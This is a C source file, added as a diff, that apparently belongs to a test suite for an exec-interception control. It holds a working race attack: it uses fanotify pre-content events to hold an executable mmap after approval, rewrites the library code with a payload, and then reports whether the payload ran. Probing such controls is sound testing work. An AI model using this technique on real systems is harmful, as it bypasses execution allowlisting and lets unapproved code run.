@@ -1,0 +1,148 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * An executable mapping held back after its grant while the file is
+ * rewritten: `heldmap LIB SECONDS`, as root.
+ *
+ * A child (the victim) maps LIB's code executable.  A fanotify group of
+ * ours (class PRE_CONTENT) holds the kernel's pre-content event of that
+ * mmap (Linux 6.14: FAN_PRE_ACCESS is raised by mmap too), which comes
+ * after the interceptor let the call continue, so the grant is made but
+ * the mapping is not there yet.  After SECONDS a second child opens LIB
+ * for writing and writes the payload over the code; then the hold ends
+ * and the victim calls what it mapped.  Every other event of the group
+ * (the interceptor's and the monitor's reads, the writer's write) is let
+ * through at once.
+ *
+ * Exit: 10 when the payload ran in the victim; 0 when it did not (the
+ * victim killed, or the old code ran); 3 when the kernel has no
+ * pre-content events (the attack cannot apply); 2 when the set-up failed.
+ */
+#include <fcntl.h>
+#include <poll.h>
+#include <stdbool.h>
+#include <sys/fanotify.h>
+#include <sys/mman.h>
+
+#include "attempt.h"
+#include "elfseg.h"
+#include "payload_code.h"
+
+#ifndef FAN_PRE_ACCESS
+#define FAN_PRE_ACCESS 0x00100000
+#endif
+#define CANNOT_APPLY 3
+
+static void answer(int group, int fd)
+{
+	struct fanotify_response r = { .fd = fd, .response = FAN_ALLOW };
+
+	if (write(group, &r, sizeof(r)) != sizeof(r))
+		fprintf(stderr, "heldmap: cannot answer an event: %s\n", strerror(errno));
+	close(fd);
+}
+
+/*
+ * Serves the group for ms, or until child (if > 0) ends, or (until_held)
+ * until the victim's first event came: that one is kept in *held, every
+ * other one is let through.
+ */
+static void serve(int group, pid_t victim, int *held, int ms, pid_t child, bool until_held)
+{
+	union {
+		struct fanotify_event_metadata m;
+		char b[4096];
+	} buf;
+	struct pollfd p = { .fd = group, .events = POLLIN };
+	int waited = 0;
+
+	while (waited < ms && !(until_held && *held >= 0) &&
+	       !(child > 0 && waitpid(child, NULL, WNOHANG) == child)) {
+		const struct fanotify_event_metadata *m;
+		ssize_t len;
+
+		if (poll(&p, 1, 10) != 1) {
+			waited += 10;
+			continue;
+		}
+		len = read(group, buf.b, sizeof(buf.b));
+		for (m = &buf.m; len > 0 && FAN_EVENT_OK(m, len); m = FAN_EVENT_NEXT(m, len)) {
+			if (m->fd < 0)
+				continue;
+			if (m->pid == victim && *held < 0)
+				*held = m->fd;
+			else
+				answer(group, m->fd);
+		}
+	}
+}
+
+/* Opens LIB once the group watches it (the kernel decides at open whether a file raises pre-content events). */
+static int victim(const char *lib, off_t off, size_t len, int go)
+{
+	char c;
+	void *code;
+	int fd;
+
+	if (read(go, &c, 1) != 1 || (fd = open(lib, O_RDONLY | O_CLOEXEC)) < 0)
+		_exit(ATTEMPT_SETUP);
+	code = mmap(NULL, len, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, off);
+	if (code == MAP_FAILED)
+		_exit(77);
+	_exit(payload_ran(code) ? ATTEMPT_GAINED : 0);
+}
+
+static int writer(const char *lib, off_t off)
+{
+	int fd = open(lib, O_RDWR | O_CLOEXEC);
+
+	if (fd < 0 || pwrite(fd, payload_code, sizeof(payload_code), off) != sizeof(payload_code))
+		_exit(ATTEMPT_SETUP);
+	_exit(0);
+}
+
+int main(int argc, char **argv)
+{
+	int fd, go[2], group, held = -1, st;
+	pid_t v, w;
+	size_t len;
+	off_t off;
+
+	if (argc < 3)
+		return ATTEMPT_SETUP;
+	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
+	if (fd < 0 || exec_segment(fd, &off, &len) != 0 || pipe(go) != 0)
+		return setup_failed("open");
+	group = fanotify_init(FAN_CLASS_PRE_CONTENT | FAN_CLOEXEC, O_RDONLY | O_CLOEXEC);
+	if (group < 0)
+		return setup_failed("fanotify_init (root only)");
+	if (fanotify_mark(group, FAN_MARK_ADD, FAN_PRE_ACCESS, AT_FDCWD, argv[1]) != 0) {
+		printf("CANNOT APPLY: no pre-content events here (Linux 6.14): %s\n", strerror(errno));
+		return CANNOT_APPLY;
+	}
+	if ((v = fork()) < 0)
+		return setup_failed("fork");
+	if (v == 0)
+		return victim(argv[1], off, len, go[0]);
+	if (write(go[1], "g", 1) != 1)
+		return setup_failed("go");
+	serve(group, v, &held, 10000, -1, true);
+	if (held < 0)
+		return setup_failed("the victim's mmap raised no event");
+	serve(group, v, &held, atoi(argv[2]) * 1000, -1, false);
+	if ((w = fork()) < 0)
+		return setup_failed("fork");
+	if (w == 0)
+		return writer(argv[1], off);
+	serve(group, v, &held, 30000, w, false);
+	answer(group, held);
+	if (waitpid(v, &st, 0) != v)
+		return setup_failed("waitpid");
+	if (WIFEXITED(st) && WEXITSTATUS(st) == ATTEMPT_GAINED)
+		return gained("the payload written after the grant ran from the held mapping");
+	if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
+		return refused("the victim was killed before the write", EPERM);
+	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
+		return refused("the approved code ran", EACCES);
+	fprintf(stderr, "the victim ended otherwise (status %#x)\n", st);
+	return ATTEMPT_SETUP;
+}
